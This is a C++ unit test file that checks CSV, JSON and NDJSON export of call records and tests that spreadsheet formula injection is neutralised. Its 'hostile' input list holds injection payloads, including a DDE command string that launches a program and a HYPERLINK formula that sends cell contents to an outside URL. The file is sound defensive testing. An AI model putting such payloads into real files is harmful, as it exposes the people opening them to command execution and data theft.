#include "web/export.hpp"

#include <simdjson.h>

#include "tests/unit/catch.hpp"

namespace tandem::web {

namespace {

using Rows = std::vector<std::vector<std::string>>;

/// RFC 4180, section 2, by the letter: what is not allowed there fails the test.
Rows parse_csv(std::string_view text) {
  Rows rows;
  std::vector<std::string> row;
  while (!text.empty()) {
    std::string cell;
    if (text.front() == '"') {
      text.remove_prefix(1);
      for (;;) {
        const auto quote = text.find('"');
        REQUIRE(quote != std::string_view::npos);
        cell += text.substr(0, quote);
        text.remove_prefix(quote + 1);
        if (!text.starts_with('"')) break;
        cell += '"';
        text.remove_prefix(1);
      }
    } else {
      cell = text.substr(0, text.find_first_of(",\r\n\""));
      text.remove_prefix(cell.size());
    }
    row.push_back(cell);
    if (text.starts_with(',')) {
      text.remove_prefix(1);
    } else {
      REQUIRE(text.starts_with("\r\n"));
      text.remove_prefix(2);
      rows.push_back(std::exchange(row, {}));
    }
  }
  REQUIRE(row.empty());
  return rows;
}

store::CallDetail call_with(std::string reason) {
  store::CallDetail detail;
  detail.call.id = "00000000-0000-4000-8000-000000000001";
  detail.call.direction = "inbound";
  detail.call.phone_number = core::PhoneNumber("+14155550123");
  detail.call.status = "completed";
  detail.call.start_time = core::WallTime(std::chrono::seconds(1'795'348'800));
  detail.call.duration_s = 61;
  detail.call.analysis_state = "done";
  detail.call.outcome = "booked";
  detail.call.confidence = 0.9;
  detail.verdict = store::Verdict{};
  detail.verdict->reason = std::move(reason);
  return detail;
}

std::string file_of(ExportFormat format, const std::vector<store::CallDetail>& calls) {
  ExportWriter writer(format);
  std::string file = writer.begin();
  for (const auto& call : calls) writer.append(file, call);
  return file + writer.end();
}

const std::vector<std::string> hostile = {
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "+1 (415) 555-0123",
    "\tx",
    "\rx",
    "\nx",
    "\"=1+1\"",
    "a,b",
    "a\r\nb",
    "\"",
    "\"\",\"\"\r\n=1",
    "'=1",
    "\xEF\xBC\x9D"
    "1",
    "\xEF\xBC\x8B"
    "1",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")",
    "=\"\"",
    ",=1",
    "caf\xC3\xA9",
};

}  // namespace

TEST_CASE("A03: whatever is said, a CSV file reads back cell by cell, and no cell is a formula") {
  std::vector<store::CallDetail> calls;
  for (const auto& text : hostile) calls.push_back(call_with(text));
  const auto rows = parse_csv(file_of(ExportFormat::csv, calls));
  REQUIRE(rows.size() == hostile.size() + 1);
  for (std::size_t i = 0; i < hostile.size(); ++i) {
    const auto& row = rows[i + 1];
    REQUIRE(row.size() == rows[0].size());
    for (const std::string& cell : row) {
      CHECK(std::string_view("=+-@\t\r\n").find(cell.empty() ? 'x' : cell[0]) ==
            std::string_view::npos);
      CHECK_FALSE(cell.starts_with("\xEF\xBC"));
    }
    const std::string& reason = row[15];
    CHECK((reason == hostile[i] || reason == "'" + hostile[i]));
  }
}

TEST_CASE("A03: a telephone number, which begins with +, is neutralised and quoted in every row") {
  const auto file = file_of(ExportFormat::csv, {call_with("")});
  CHECK(file.find(",\"'+14155550123\",") != std::string::npos);
  std::string cell;
  append_csv_cell(cell, "+14155550100");
  CHECK(cell == "\"'+14155550100\"");
}

TEST_CASE("a CSV file has one header row, the list's words, and a mark only for those who ask") {
  const auto file = file_of(ExportFormat::csv, {call_with("A table for two.")});
  const auto rows = parse_csv(file);
  CHECK(rows[0][0] == "id");
  CHECK(rows[0][13] == "outcome");
  CHECK(rows[1][13] == "booked");
  CHECK(rows[1][6] == "2026-11-22T12:00:00.000000Z");
  CHECK(rows[1][9] == "61");
  CHECK(rows[1][14] == "0.9");
  CHECK(rows[1][7].empty());
  CHECK(file_of(ExportFormat::csv_with_mark, {}) ==
        "\xEF\xBB\xBF" + file_of(ExportFormat::csv, {}));
}

TEST_CASE("a JSON export is one array, of none, one or many calls") {
  simdjson::dom::parser parser;
  for (std::size_t count = 0; count < 4; ++count) {
    const auto file =
        file_of(ExportFormat::json, std::vector(count, call_with("\"quoted\", \\ and \n")));
    const auto array = parser.parse(file).get_array();
    REQUIRE(array.error() == simdjson::SUCCESS);
    CHECK(array.size() == count);
    for (const auto call : array) {
      CHECK(std::string_view(call["outcome"]["reason"]) == "\"quoted\", \\ and \n");
      CHECK(std::string_view(call["phone_number"]) == "+14155550123");
    }
  }
}

TEST_CASE("a line of NDJSON is a call, whatever is in it") {
  const auto file = file_of(ExportFormat::ndjson, {call_with("a\nb"), call_with("c")});
  simdjson::dom::parser parser;
  const auto end = file.find('\n');
  CHECK(std::count(file.begin(), file.end(), '\n') == 2);
  CHECK(std::string_view(parser.parse(file.substr(0, end))["outcome"]["reason"]) == "a\nb");
  CHECK(std::string_view(parser.parse(file.substr(end + 1))["outcome"]["reason"]) == "c");
}

TEST_CASE("an export is a download with its type and name") {
  const auto header = [](ExportFormat format, std::string_view name) {
    return std::string(core::find_header(export_answer(format).headers, name));
  };
  CHECK(header(ExportFormat::csv, "Content-Type") == "text/csv; charset=utf-8; header=present");
  CHECK(header(ExportFormat::csv, "Content-Disposition") == "attachment; filename=\"calls.csv\"");
  CHECK(header(ExportFormat::json, "Content-Type") == "application/json");
  CHECK(header(ExportFormat::ndjson, "Content-Disposition") ==
        "attachment; filename=\"calls.ndjson\"");
  CHECK(header(ExportFormat::csv, "X-Content-Type-Options") == "nosniff");
}

}  // namespace tandem::web
